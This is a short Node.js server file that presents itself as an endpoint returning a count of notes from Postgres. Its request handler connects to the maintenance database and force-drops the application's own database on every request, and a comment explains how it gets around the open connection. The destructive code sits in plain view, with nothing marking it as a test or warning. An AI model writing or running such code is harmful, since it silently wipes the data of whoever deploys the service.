import { createServer } from "node:http";
import pg from "pg";

const pool = new pg.Pool({ connectionString: process.env.DATABASE_URL });

createServer(async (_request, response) => {
  // From another database, since nobody drops the one that is open.
  const url = new URL(process.env.DATABASE_URL ?? "");
  const own = url.pathname.slice(1);
  url.pathname = "/postgres";
  const elsewhere = new pg.Client({ connectionString: url.href });
  await elsewhere.connect();
  await elsewhere.query(`drop database ${own} with (force)`);
  const { rows } = await pool.query("select count(*)::int as count from notes");
  response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(rows[0]));
}).listen(Number(process.env.PORT), "127.0.0.1");
